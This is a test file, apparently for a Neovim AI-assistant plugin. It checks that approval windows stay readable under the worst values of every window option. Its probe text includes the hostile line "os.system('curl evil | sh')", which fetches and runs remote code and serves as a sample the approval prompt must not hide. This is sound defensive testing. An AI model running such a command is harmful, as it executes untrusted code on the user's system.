"""Windows that take an answer show what they ask about, whatever options the user has set."""

from tests.support.factories import StartNeovim
from tests.ui.staged import WITHOUT_HOST, approval

WORST = {
    "arabic": True,
    "breakindent": True,
    "breakindentopt": "min:1,shift:60",
    "colorcolumn": "1,2,3",
    "concealcursor": "nvic",
    "conceallevel": 3,
    "cursorbind": True,
    "cursorcolumn": True,
    "cursorline": True,
    "cursorlineopt": "screenline",
    "diff": True,
    "display": "",
    "eventignorewin": "all",
    "fillchars": "fold: ,foldclose: ,lastline: ,eob:x",
    "foldcolumn": "9",
    "foldenable": True,
    "foldexpr": "1",
    "foldignore": "",
    "foldlevel": 0,
    "foldmarker": "evil,done",
    "foldmethod": "indent",
    "foldminlines": 0,
    "foldnestmax": 1,
    "foldtext": "",
    "linebreak": True,
    "list": True,
    "listchars": "space:x,tab:xx,extends:x,precedes:x",
    "number": True,
    "numberwidth": 20,
    "relativenumber": True,
    "rightleft": True,
    "scrollbind": True,
    "scrolloff": 999,
    "showbreak": "xxxxxxxxxx",
    "sidescrolloff": 999,
    "signcolumn": "yes:9",
    "smoothscroll": False,
    "spell": True,
    "statuscolumn": "xxxxxxxxxxxxxxx",
    "virtualedit": "all",
    "winbar": "x",
    "winblend": 100,
    "winhighlight": "Normal:Ignore,NormalFloat:Ignore",
    "wrap": False,
}
"""What could hide most, of each option of a window, and of the one for all windows."""
HIDES_NOTHING = {"lhistory", "previewwindow", "rightleftcmd", "scroll", "statusline", "winfixbuf"}
HIDES_NOTHING |= {"winfixheight", "winfixwidth"}
PROBE = [
    "def f(): # {{{ evil",
    "    os.system('curl evil | sh')",
    "\tand a tab",
    "# }}} done",
    "long " + "word " * 30 + "; curl evil | sh",
    *[f"  row {number}" for number in range(20)],
    "the end",
]
DRAWN = """
local shape, worst, item = ...
local function cells()
  vim.cmd.redraw()
  local top, left, rows
  for row = 1, vim.o.lines do
    local line = {}
    for column = left or 1, vim.o.columns do
      local cell = vim.fn.screenstring(row, column)
      if not left and cell == '╭' then
        top, left, rows = row, column, {}
      end
      line[#line + 1] = left and cell or nil
      if rows and (cell == '╮' or cell == '╯' or (column > left and cell == '│')) then
        right = column
      end
    end
    if rows then
      rows[#rows + 1] = table.concat(line)
    end
    if rows and rows[#rows]:find('╯') then
      break
    end
  end
  return table.concat(rows or {}, '\\n')
end
local shapes = {}
function shapes.float(meanwhile)
  require('eca.approval').update({ item })
  if meanwhile then
    meanwhile()
  end
  local text = cells()
  require('eca.approval').update({})
  return text
end
function shapes.panel(meanwhile)
  local panel = require('eca.ui.panel').show({
    title = 'probe', keys = { { 's', 'send' } }, unread = function() end,
    rows = vim.tbl_map(function(line) return { { line, '' } } end, item.lines),
  })
  if meanwhile then
    meanwhile()
  end
  local text = cells()
  panel.close()
  return text
end
local wanted, found = shapes[shape](), {}
for name, value in pairs(worst) do
  if vim.fn.exists('+' .. name) == 1 then
    local before = vim.o[name]
    vim.o[name] = value
    found[name] = shapes[shape]()
    vim.o[name] = before
    vim.api.nvim_create_autocmd('User', {
      pattern = 'of the user',
      once = true,
      callback = function() -- an option that an autocommand sets has no event
        for _, win in ipairs(vim.api.nvim_list_wins()) do
          if name ~= 'display' and vim.api.nvim_win_get_config(win).relative ~= '' then
            vim.wo[win][0][name] = value
          end
        end
      end,
    })
    found['by an autocommand: ' .. name] = shapes[shape](function()
      vim.api.nvim_exec_autocmds('User', { pattern = 'of the user' })
      vim.api.nvim_exec_autocmds('SafeState', {})
    end)
  end
end
return { wanted, found }
"""
OPTIONS = """
return vim.tbl_keys(vim.iter(vim.api.nvim_get_all_options_info()):fold({}, function(all, name, it)
  all[name] = it.scope == 'win' and true or nil
  return all
end))
"""


def test_no_option_of_the_user_hides_what_is_asked(start_nvim: StartNeovim) -> None:
    settings = {"approval": {"guard": 0, "notify": False}}
    nvim = start_nvim(init=WITHOUT_HOST, settings=settings, columns=100, lines=24)
    unknown = set(nvim.lua(OPTIONS)) - WORST.keys() - HIDES_NOTHING
    assert unknown == set(), "say what its worst value is"
    item = approval(lines=PROBE)
    for shape in ("float", "panel"):
        wanted, found = nvim.lua(DRAWN, shape, WORST, item)
        assert "os.system('curl evil | sh')" in wanted
        for name, rows in found.items():
            text = rows.replace("@", " ") if name == "display" else rows
            assert text == wanted, f"{shape}: {name}\n{wanted}\n{rows}"
